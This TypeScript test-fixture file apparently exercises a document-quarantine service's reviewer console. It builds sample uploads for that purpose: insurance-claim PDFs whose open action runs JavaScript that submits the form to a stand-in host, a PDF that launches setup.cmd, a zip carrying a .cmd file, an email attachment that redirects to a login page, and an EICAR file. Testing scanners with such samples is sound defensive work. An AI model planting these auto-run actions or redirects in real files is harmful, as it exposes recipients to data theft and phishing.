import { type Sample, samples } from "../../packages/core/test/samples.ts";
import { attached, message, multipartBody, part } from "../../packages/inspect/test/samples/mail.ts";
import { pdfFile } from "../../packages/inspect/test/samples/pdf.ts";
import { zip } from "../../packages/inspect/test/samples/zip.ts";
import { cardPicture } from "./card-picture.ts";
import { type Answer, call, declare, settled, type Target, tokenOf, upload } from "./target.ts";

/** A document for the console, and the client that submits it. */
export interface ConsoleDocument extends Sample {
  client: "partner" | "other-partner";
  labels: Readonly<Record<string, string>>;
}

const letterLines = [
  "Claim 2026-0417",
  "",
  "Water damage in the kitchen, 14 May 2026.",
  "The estimate of the plumber is 1,840.00 and includes the floor.",
  "Please transfer the amount to the account that you have on record.",
];

/** A letter whose script runs when it is opened. */
export function letterWithScript(): Buffer {
  const text = letterLines.map((line) => `(${line}) Tj T*`).join("\n");
  return pdfFile({
    catalog: "/OpenAction 5 0 R",
    page: "/Resources << /Font << /F1 6 0 R >> >>",
    objects: [
      '<< /Type /Action /S /JavaScript /JS (this.submitForm\\("https://collect.example/claims"\\);) >>',
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ],
    contents: `BT /F1 12 Tf 72 720 Td 16 TL\n${text}\nET`,
  });
}

const archive = () =>
  zip([
    { name: "photos/kitchen-1.png", content: cardPicture() },
    { name: "photos/kitchen-2.png", content: cardPicture() },
    { name: "estimate.pdf", content: samples.pdf().bytes },
    { name: "open-photos.cmd", content: "start photos\\kitchen-1.png\r\n" },
  ]);

const letterByMail = () =>
  message({
    fields: ['Content-Type: multipart/mixed; boundary="b1"'],
    body: multipartBody("b1", [
      part({ fields: ["Content-Type: text/plain; charset=utf-8"], body: "Please find the claim form." }),
      attached("<script>location = 'https://login.example'</script><p>Claim form</p>", "claim-form.html"),
    ]),
  });

/** Held documents in the order in which they are submitted: the PDF with a script waits longest. */
export const heldDocuments: readonly ConsoleDocument[] = [
  {
    client: "partner",
    filename: "claim-2026-0417.pdf",
    contentType: "application/pdf",
    bytes: letterWithScript(),
    labels: { claim: "2026-0417", branch: "Leeds" },
  },
  {
    client: "other-partner",
    filename: "kitchen-photos.zip",
    contentType: "application/zip",
    bytes: archive(),
    labels: { claim: "2026-0418" },
  },
  {
    client: "other-partner",
    filename: "policy-77120.pdf",
    contentType: "application/pdf",
    bytes: pdfFile({ catalog: "/OpenAction << /S /Launch /F (setup.cmd) >>" }),
    labels: { policy: "77120" },
  },
  {
    client: "partner",
    filename: "Re claim 2026-0391.eml",
    contentType: "message/rfc822",
    bytes: letterByMail(),
    labels: { claim: "2026-0391" },
  },
  {
    client: "other-partner",
    filename: "identity-card.jpg",
    contentType: "image/jpeg",
    bytes: cardPicture(),
    labels: {},
  },
];

/** Documents that are held, for the reviewer's client to decide. */
export const decidedDocuments: readonly ConsoleDocument[] = [
  "claim-2026-0398.pdf",
  "claim-2026-0399.pdf",
  "claim-2026-0401.pdf",
].map((filename) => ({
  client: "partner",
  labels: {},
  filename,
  contentType: "application/pdf",
  bytes: letterWithScript(),
}));

/** Documents that are released or rejected without a decision. */
export const settledDocuments: readonly ConsoleDocument[] = [
  { client: "partner", labels: { claim: "2026-0402" }, ...samples.pdf("invoice-8841.pdf") },
  { client: "partner", labels: { claim: "2026-0403" }, ...samples.pdf("invoice-8842.pdf") },
  { client: "partner", labels: {}, ...samples.csv("payments-may.csv") },
  { client: "other-partner", labels: {}, ...samples.docx("cover letter.docx") },
  { client: "other-partner", labels: {}, ...samples.eicar("statement.txt") },
];

/** Submits a document and waits until it is settled. */
export async function submitForConsole(target: Target, document: ConsoleDocument): Promise<Answer["body"]> {
  const { client, labels, filename, contentType, bytes } = document;
  const token = await tokenOf(target, client);
  const body = { ...declare(filename, contentType, bytes), labels };
  const registered = await call(target, token, "POST", "/documents", body);
  if (registered.status !== 201) throw new Error(`${filename}: ${registered.body.detail}`);
  const { ok } = await upload(registered, bytes);
  if (!ok) throw new Error(`The upload of ${filename} was refused.`);
  return (await settled(target, token, registered.body.id)).body;
}

/** Decides on a held document as the client `reviewer`. */
export async function decideForConsole(
  target: Target,
  id: string,
  decision: "release" | "reject",
  reason: string,
): Promise<void> {
  const token = await tokenOf(target, "reviewer");
  const { status, body } = await call(target, token, "POST", `/documents/${id}/decision`, {
    decision,
    reason,
  });
  if (status !== 202) throw new Error(`${id}: ${body.detail}`);
  await settled(target, token, id);
}
